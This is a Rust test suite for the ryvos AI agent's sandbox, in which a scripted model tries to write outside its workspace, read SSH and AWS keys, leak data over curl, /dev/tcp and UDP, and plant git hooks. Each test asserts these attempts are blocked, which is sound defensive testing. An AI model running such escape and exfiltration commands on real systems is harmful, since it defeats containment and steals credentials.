//! Confinement end to end: the real binaries, the scripted model server, and the kernel's
//! sandbox. The security gate is opened all the way (every tier allowed, as the most trusting
//! unattended user would), so every escape attempt reaches the sandbox, which is the guarantee.

mod common;

use common::cli::json_lines as events;
use common::confined::{
    asking, bash_call, daemon_users, hosted_as, results, ryvosd_for, start_as, EVERYTHING_ALLOWED,
};
use common::home::Home;
use ryvos_testkit::{runaway, Reply, ScriptedModelServer};
use serde_json::json;

#[tokio::test(flavor = "multi_thread")]
async fn escape_attempts_through_the_daemon_leave_nothing_outside_the_workspace() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("victim.txt"), "original").unwrap();
    let o = outside.path().canonicalize().unwrap().display().to_string();
    let name = outside.path().file_name().unwrap().to_str().unwrap();
    // The same directory, reached from the workspace (both are in the temporary directory).
    let r = format!("../{name}");
    let beside_tmpdir = format!("ryvos-escape-{name}");
    let escapes = [
        (
            "python",
            format!("python3 -c \"open('{r}/python','w').write('x')\""),
        ),
        (
            "perl",
            format!("perl -e 'open(F, \">{r}/perl\") or die \"perl: $!\\n\"'"),
        ),
        (
            "node",
            format!("node -e \"require('fs').writeFileSync('{r}/node', 'x')\""),
        ),
        ("cd_up", format!("cd .. && touch {name}/cd")),
        ("absolute", format!("echo x > {o}/absolute")),
        (
            "symlink",
            format!("ln -s {o} link && echo x > link/symlink"),
        ),
        (
            "hardlink",
            format!("ln {o}/victim.txt hard && echo pwned > hard"),
        ),
        (
            "tmpdir_up",
            format!("echo x > \"$TMPDIR/../{beside_tmpdir}\""),
        ),
        (
            "tmpdir_reset",
            format!("TMPDIR={o}; echo x > \"$TMPDIR/tmpdir\""),
        ),
        ("copy", format!("cp /etc/passwd {r}/copy")),
        ("mkdir", format!("mkdir {r}/dir")),
        ("dd", format!("dd if=/dev/zero of={r}/dd bs=1 count=1")),
        ("git", format!("git init -q {r}/repo")),
        (
            "nested_shell",
            format!("sh -c 'cd / && cd {o} && echo x > sh'"),
        ),
        ("move", format!("echo x > mine && mv mine {r}/moved")),
    ];
    let mut calls: Vec<_> = escapes.iter().map(|(id, c)| bash_call(id, c)).collect();
    // The daemon's own socket: a unix socket cannot even be made in the sandbox, and the
    // in-process fallback cannot write the store.
    let ryvos = env!("CARGO_BIN_EXE_ryvos");
    calls.push(bash_call(
        "daemon",
        &format!("{ryvos} run --workspace / 'write anywhere'"),
    ));
    calls.push(bash_call(
        "inside",
        "echo ok > inside.txt && echo scratch > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
    ));
    let server =
        ScriptedModelServer::start([asking(&calls), Reply::text(&["I stayed inside."])]).await;
    let home = Home::with_sections(&server, "", EVERYTHING_ALLOWED, "");
    let _daemon = home.daemon().await;
    let (code, stdout, stderr) = home.ryvos(&["run", "--json", "try", "to", "escape"]).await;
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("in-process"), "it used the daemon");
    let events = events(&stdout);
    assert_eq!(events.last().unwrap()["status"], "completed");
    let results = results(&events);

    for (id, command) in &escapes {
        let (is_error, output) = &results[*id];
        assert!(*is_error, "{id} ({command}) succeeded: {output}");
        assert!(
            output.contains("[sandbox]"),
            "{id}: the model is told why: {output}"
        );
    }
    // Refused by the sandbox, or (run as root, its commands lent nobody) out of reach: the
    // home is closed to them.
    let (is_error, output) = &results["daemon"];
    assert!(*is_error, "{output}");
    assert!(output.contains("no daemon answering"), "{output}");
    let (is_error, output) = &results["inside"];
    assert!(!is_error, "{output}");
    assert!(output.contains("scratch"), "{output}");
    assert!(home.workspace.path().join("inside.txt").exists());

    let left: Vec<_> = std::fs::read_dir(outside.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, ["victim.txt"], "nothing new outside the workspace");
    assert_eq!(
        std::fs::read_to_string(outside.path().join("victim.txt")).unwrap(),
        "original"
    );
    assert!(!std::env::temp_dir().join(&beside_tmpdir).exists());

    // The sandbox's state is reported.
    let (code, status, _) = home.ryvos(&["status"]).await;
    assert_eq!(code, 0);
    assert!(
        status.contains("sandbox: workspace-write, no network, secrets hidden"),
        "{status}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn network_false_refuses_connections_that_network_true_allows() {
    for network in [true, false] {
        let probe = ScriptedModelServer::start([]).await;
        let curl = format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' {}/models",
            probe.base_url()
        );
        let server = ScriptedModelServer::start([
            asking(&[bash_call("curl", &curl)]),
            Reply::text(&["done"]),
        ])
        .await;
        let home = Home::with_sections(
            &server,
            "",
            EVERYTHING_ALLOWED,
            &format!("[security.sandbox]\nnetwork = {network}\n"),
        );
        let _daemon = home.daemon().await;
        let (code, stdout, stderr) = home.ryvos(&["run", "--json", "fetch"]).await;
        assert_eq!(code, 0, "{stderr}");
        let (is_error, output) = &results(&events(&stdout))["curl"];
        if network {
            assert!(!is_error, "network = true connects: {output}");
        } else {
            assert!(is_error, "network = false refuses: {output}");
            assert!(output.contains("network = false"), "{output}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn by_default_no_secret_is_read_nothing_leaves_and_nothing_is_planted() {
    for user in daemon_users() {
        default_sandbox_holds(user).await;
    }
}

async fn default_sandbox_holds(user: Option<(u32, u32)>) {
    // A HOME holding ordinary credentials, and secrets in the daemon's environment.
    let user_home = tempfile::tempdir().unwrap();
    let h = user_home.path();
    std::fs::create_dir_all(h.join(".ssh")).unwrap();
    std::fs::create_dir_all(h.join(".aws")).unwrap();
    std::fs::write(h.join(".ssh/id_ed25519"), "SSH-PRIVATE-KEY-7Q").unwrap();
    std::fs::write(h.join(".aws/credentials"), "AWS-SECRET-9Z").unwrap();
    // Listeners a leak would reach, on this machine's loopback.
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let tcp_port = tcp.local_addr().unwrap().port();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();

    let ws_git = |home: &Home, script: &str| {
        std::process::Command::new("bash")
            .arg("-c")
            .arg(script)
            .current_dir(home.workspace.path())
            .output()
            .unwrap()
    };
    let tries = [
        ("ssh", "cat ~/.ssh/id_ed25519".to_owned()),
        ("aws", "cat ~/.aws/credentials".to_owned()),
        ("config", "cat \"$RYVOS_HOME/config.toml\"".to_owned()),
        ("env", "env".to_owned()),
        (
            "curl",
            format!("curl -sS -m 5 http://127.0.0.1:{tcp_port}/leak"),
        ),
        ("tcp", format!("exec 3<>/dev/tcp/127.0.0.1/{tcp_port}")),
        (
            "udp",
            format!(
                "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\
                 .sendto(b'leak', ('127.0.0.1', {udp_port}))\""
            ),
        ),
        ("dns", "getent hosts example.com".to_owned()),
        (
            "hook",
            "echo 'touch /tmp/pwned' > .git/hooks/pre-commit".to_owned(),
        ),
        (
            "fsmonitor",
            "git config core.fsmonitor 'touch /tmp/pwned'".to_owned(),
        ),
        (
            "alias",
            "printf '[alias]\\n\\tst = !touch /tmp/pwned\\n' >> .git/config".to_owned(),
        ),
    ];
    let mut calls: Vec<_> = tries.iter().map(|(id, c)| bash_call(id, c)).collect();
    let write = |id: &str, path: &str| {
        (
            id.to_owned(),
            "write".to_owned(),
            json!({"path": path, "content": "#!/bin/sh\ntouch /tmp/pwned\n"}).to_string(),
        )
    };
    calls.push(write("write_hook", ".git/hooks/post-checkout"));
    calls.push(write("write_config", ".git/config"));
    let read_key = format!("{}/.ssh/id_ed25519", h.display());
    calls.push((
        "read_key".to_owned(),
        "read".to_owned(),
        json!({ "path": read_key }).to_string(),
    ));
    let commit = "echo a > a.txt && git add a.txt && git commit -qm by-the-model";
    let server = ScriptedModelServer::start([
        asking(&calls),
        asking(&[bash_call("commit", commit)]),
        Reply::text(&["Nothing got out."]),
    ])
    .await;
    let home = Home::with_sections(&server, "", EVERYTHING_ALLOWED, "# CONFIG-SECRET-4K\n");
    let made = ws_git(
        &home,
        "git init -q . && git config user.email m@example.com && git config user.name M",
    );
    assert!(made.status.success());
    let config_before = std::fs::read(home.workspace.path().join(".git/config")).unwrap();
    let hooks_before = std::fs::read_dir(home.workspace.path().join(".git/hooks"))
        .unwrap()
        .count();

    let mut daemon = home.command(ryvosd_for(user));
    daemon
        .env("HOME", h)
        .env("OPENAI_API_KEY", "sk-DAEMON-KEY-3X")
        .env("GITHUB_TOKEN", "ghp-DAEMON-TOKEN-8W");
    let _daemon = start_as(&home, daemon, user, &[h]).await;
    let (code, stdout, stderr) = home
        .ryvos_as(user, &["run", "--json", "try", "everything"])
        .await;
    let who = format!("as {user:?}");
    assert_eq!(code, 0, "{who}: {stderr}");
    let events = events(&stdout);
    let results = results(&events);
    for secret in [
        "SSH-PRIVATE-KEY-7Q",
        "AWS-SECRET-9Z",
        "CONFIG-SECRET-4K",
        "sk-DAEMON-KEY-3X",
        "ghp-DAEMON-TOKEN-8W",
    ] {
        assert!(
            !stdout.contains(secret),
            "{who}: {secret} reached the model"
        );
    }
    for id in ["curl", "tcp", "dns", "hook", "fsmonitor", "alias"] {
        let (is_error, output) = &results[id];
        assert!(*is_error, "{who}: {id} worked: {output}");
    }
    for id in ["write_hook", "write_config"] {
        let (is_error, output) = &results[id];
        assert!(
            *is_error && output.starts_with("denied:"),
            "{who}: {id}: {output}"
        );
        assert!(output.contains("git"), "{who}: {output}");
    }
    assert!(results["read_key"].0, "{who}");
    assert!(results["env"].1.contains("PATH="), "{who}: env ran");
    let (is_error, output) = &results["commit"];
    assert!(!is_error, "{who}: the model commits: {output}");

    // Nothing arrived; nothing was planted; the commit is there.
    assert!(tcp.accept().is_err(), "{who}: a TCP connection arrived");
    let mut buf = [0u8; 16];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "{who}: a datagram arrived"
    );
    let ws = home.workspace.path();
    assert_eq!(
        std::fs::read(ws.join(".git/config")).unwrap(),
        config_before
    );
    assert_eq!(
        std::fs::read_dir(ws.join(".git/hooks")).unwrap().count(),
        hooks_before,
        "{who}"
    );
    let log = ws_git(&home, "git -c safe.directory='*' log --format=%s");
    assert_eq!(String::from_utf8_lossy(&log.stdout).trim(), "by-the-model");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_runaway_command_stops_at_its_limits_while_the_daemon_serves_on() {
    for user in daemon_users() {
        runaway_commands_stop(user).await;
    }
}

async fn runaway_commands_stop(user: Option<(u32, u32)>) {
    let fork_many = runaway::FORK_MANY;
    let hog = runaway::allocate(3 * 1024);
    let server = ScriptedModelServer::start([
        asking(&[bash_call("forks", fork_many)]),
        asking(&[bash_call("hog", &hog)]),
        Reply::text(&["Stopped."]),
    ])
    .await;
    let (home, _daemon) = hosted_as(&server, user, "max_memory_mb = 1024").await;
    let who = format!("as {user:?}");
    let run = home.ryvos_as(user, &["run", "--json", "run", "away"]);
    let status = async {
        // The daemon answers while the command runs away.
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        home.ryvos_as(user, &["status"]).await
    };
    let ((code, stdout, stderr), (status_code, status, _)) = tokio::join!(run, status);
    assert_eq!(code, 0, "{who}: {stderr}");
    assert_eq!(status_code, 0, "{who}: {status}");
    assert!(
        status.contains("at most 512 processes and 1024 MiB"),
        "{who}: {status}"
    );
    let results = results(&events(&stdout));
    let (_, forks) = &results["forks"];
    let started = runaway::started(forks).unwrap_or_else(|| panic!("{who}: {forks}"));
    assert!(started < 512, "{who}: {started} processes started");
    assert!(forks.contains("max_processes"), "{who}: {forks}");
    let (is_error, hog) = &results["hog"];
    assert!(*is_error, "{who}: 3 GiB under 1024 MiB: {hog}");
    assert!(hog.contains("max_memory_mb"), "{who}: {hog}");
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_domains_open_named_hosts_through_the_proxy_and_audit_every_decision() {
    for user in daemon_users() {
        egress_through_the_proxy(user).await;
    }
}

async fn egress_through_the_proxy(user: Option<(u32, u32)>) {
    let target = ScriptedModelServer::start([]).await;
    // The scripted server answers GET /v1/models; reached by name, as a registry would be.
    let url = target.base_url().replace("127.0.0.1", "localhost");
    let allowed = format!("curl -sS -m 10 -o /dev/null -w 'HTTP %{{http_code}}' {url}/models");
    let refused = "curl -fsS -m 10 https://example.com/";
    let server = ScriptedModelServer::start([
        asking(&[
            bash_call("allowed", &allowed),
            bash_call("refused", refused),
        ]),
        Reply::text(&["done"]),
    ])
    .await;
    let (home, _daemon) = hosted_as(&server, user, "allowed_domains = [\"localhost\"]").await;
    let who = format!("as {user:?}");
    let (code, stdout, stderr) = home.ryvos_as(user, &["run", "--json", "fetch"]).await;
    assert_eq!(code, 0, "{who}: {stderr}");
    let events = events(&stdout);
    let results = results(&events);
    let (is_error, output) = &results["allowed"];
    // The server answered (whatever it said): the connection was made.
    assert!(!is_error && !output.contains("HTTP 000"), "{who}: {output}");
    let (is_error, output) = &results["refused"];
    assert!(*is_error, "{who}: {output}");
    assert!(
        output.contains("example.com") && output.contains("allowed_domains"),
        "{who}: the model is told which name and the knob: {output}"
    );
    let decisions: Vec<(String, bool)> = events
        .iter()
        .filter(|e| e["type"] == "EgressDecision")
        .map(|e| {
            (
                e["host"].as_str().unwrap().to_owned(),
                e["allowed"] == json!(true),
            )
        })
        .collect();
    assert!(
        decisions.contains(&("localhost".to_owned(), true)),
        "{who}: {decisions:?}"
    );
    assert!(
        decisions.contains(&("example.com".to_owned(), false)),
        "{who}: {decisions:?}"
    );
}

/// The daemon as root (as in containers and CI): its commands, lent an unprivileged user, still
/// build and run code in the workspace with cargo, python3, node, git and make, and what they
/// make there is root's afterwards. A toolchain under root's home is reached by naming it in
/// `allow_read`, as a user would.
#[tokio::test(flavor = "multi_thread")]
async fn a_root_daemons_commands_build_code_and_leave_it_to_root() {
    use std::os::unix::fs::MetadataExt;
    // SAFETY: geteuid only reads the caller's id.
    if unsafe { libc::geteuid() } != 0 {
        return;
    }
    let home_dir = std::env::var_os("HOME").map(std::path::PathBuf::from);
    let cargo_home = std::env::var_os("CARGO_HOME")
        .map(std::path::PathBuf::from)
        .or_else(|| home_dir.as_ref().map(|h| h.join(".cargo")));
    let rustup_home = std::env::var_os("RUSTUP_HOME")
        .map(std::path::PathBuf::from)
        .or_else(|| home_dir.as_ref().map(|h| h.join(".rustup")));
    let toolchains: Vec<String> = [&cargo_home, &rustup_home]
        .into_iter()
        .flatten()
        .filter(|p| p.exists())
        .map(|p| format!("{:?}", p.display().to_string()))
        .collect();
    let build = "cargo new -q --vcs none hello && cd hello && cargo build -q --offline \
                 && ./target/debug/hello && cd .. \
                 && python3 -c \"open('py.txt', 'w').write('py')\" \
                 && node -e \"require('fs').writeFileSync('node.txt', 'node')\" \
                 && printf 'all:\\n\\techo made > made.txt\\n' > Makefile && make -s \
                 && git init -q repo && cd repo && echo a > a.txt && git add a.txt \
                 && git -c user.name=M -c user.email=m@example.com commit -qm one \
                 && git log --format=%s && id -un";
    let server = ScriptedModelServer::start([
        asking(&[bash_call("build", build)]),
        Reply::text(&["Built."]),
    ])
    .await;
    let sandbox = format!(
        "[security.sandbox]\nallow_read = [{}]\n",
        toolchains.join(", ")
    );
    let home = Home::with_sections(&server, "", EVERYTHING_ALLOWED, &sandbox);
    let mut daemon = home.command(env!("CARGO_BIN_EXE_ryvosd"));
    if let Some(rustup) = &rustup_home {
        daemon.env("RUSTUP_HOME", rustup);
    }
    let _daemon = home.daemon_from(daemon).await;
    let (code, stdout, stderr) = home.ryvos(&["run", "--json", "build", "it"]).await;
    assert_eq!(code, 0, "{stderr}");
    let (is_error, output) = &results(&events(&stdout))["build"];
    assert!(!is_error, "{output}");
    assert!(output.contains("Hello, world!"), "{output}");
    assert!(
        output.contains("one") && output.contains("nobody"),
        "{output}"
    );
    let ws = home.workspace.path();
    for made in [
        "hello/target/debug/hello",
        "hello/src/main.rs",
        "py.txt",
        "node.txt",
        "made.txt",
        "repo/.git/HEAD",
    ] {
        let meta = std::fs::metadata(ws.join(made)).unwrap();
        assert_eq!((meta.uid(), meta.gid()), (0, 0), "{made} is root's");
    }
    let (_, status, _) = home.ryvos(&["status"]).await;
    assert!(status.contains("commands run as nobody"), "{status}");
}
